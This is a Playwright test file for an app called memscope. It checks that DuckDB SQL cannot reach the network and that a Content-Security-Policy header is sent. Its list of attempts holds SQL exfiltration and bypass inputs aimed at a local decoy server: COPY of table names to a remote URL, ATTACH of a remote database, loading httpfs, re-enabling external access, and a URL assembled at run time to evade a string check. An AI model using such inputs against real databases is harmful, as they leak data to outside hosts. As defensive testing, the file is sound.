import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { test, expect, openAppWithSample } from './support/fixtures';

/**
 * Issue 10 item 9: no network from SQL, even without the CSP. The CSP is bypassed here, so only
 * memscope's own lockdown (DuckDB's configuration locked offline, and the pre-check of the SQL)
 * stands between the editor and a decoy server on another origin. The fixture also fails the test
 * on any request to another origin.
 */
test.describe('SQL stays offline', () => {
  test.use({ bypassCSP: true });

  let decoy: http.Server;
  let decoyHits: string[] = [];
  let decoyOrigin = '';

  test.beforeAll(async () => {
    decoy = http.createServer((req, res) => {
      decoyHits.push(`${req.method} ${req.url}`);
      res.writeHead(200, { 'Content-Type': 'text/csv', 'Access-Control-Allow-Origin': '*' });
      res.end('leaked\n1\n');
    });
    await new Promise<void>((resolve) => decoy.listen(0, '127.0.0.1', resolve));
    decoyOrigin = `http://127.0.0.1:${(decoy.address() as AddressInfo).port}`;
  });
  test.afterAll(async () => {
    await new Promise((resolve) => decoy.close(resolve));
  });

  test('network attempts are refused with the offline message and reach no other origin', async ({
    page,
  }) => {
    decoyHits = [];
    await openAppWithSample(page);
    await page.getByRole('tab', { name: 'SQL' }).click();
    const panel = page.getByRole('tabpanel', { name: 'SQL' });
    const editor = page.getByLabel('SQL query');
    const attempts = [
      `SELECT * FROM read_csv('${decoyOrigin}/read.csv')`,
      `SELECT * FROM '${decoyOrigin}/scan.csv'`,
      `ATTACH '${decoyOrigin}/db.duckdb' AS remote`,
      `COPY (SELECT table_name FROM duckdb_tables()) TO '${decoyOrigin}/leak.csv'`,
      `SELECT * FROM read_csv('s3://memscope-decoy/x.csv')`,
      'INSTALL httpfs',
      'LOAD httpfs',
      'SET autoinstall_known_extensions=true',
      'SET enable_external_access=true',
      // Built at run time: only the locked engine can refuse it.
      `SELECT * FROM read_csv('${decoyOrigin.replace('http', "htt' || 'p")}/built.csv')`,
    ];
    for (const sql of attempts) {
      await editor.fill(sql);
      await page.getByRole('button', { name: 'Run' }).click();
      await expect(panel.getByRole('alert'), sql).toContainText('memscope keeps DuckDB offline');
    }
    // The engine is unharmed and the open files are still queryable.
    await editor.fill('SELECT count(*) > 0 AS ok FROM experiences');
    await page.getByRole('button', { name: 'Run' }).click();
    await expect(panel.getByRole('gridcell', { name: 'true' })).toBeVisible();
    expect(decoyHits).toEqual([]);
  });
});

test('npm start and vite preview send the CSP as a header, framing forbidden', async ({ request }) => {
  const response = await request.get('/');
  const csp = response.headers()['content-security-policy'] ?? '';
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("connect-src 'self' blob: data:");
  expect(csp).toContain("frame-ancestors 'none'");
  expect(response.headers()['x-content-type-options']).toBe('nosniff');
  // The <meta> tag stays for static hosts that send no headers.
  expect(await response.text()).toContain('http-equiv="Content-Security-Policy"');
});
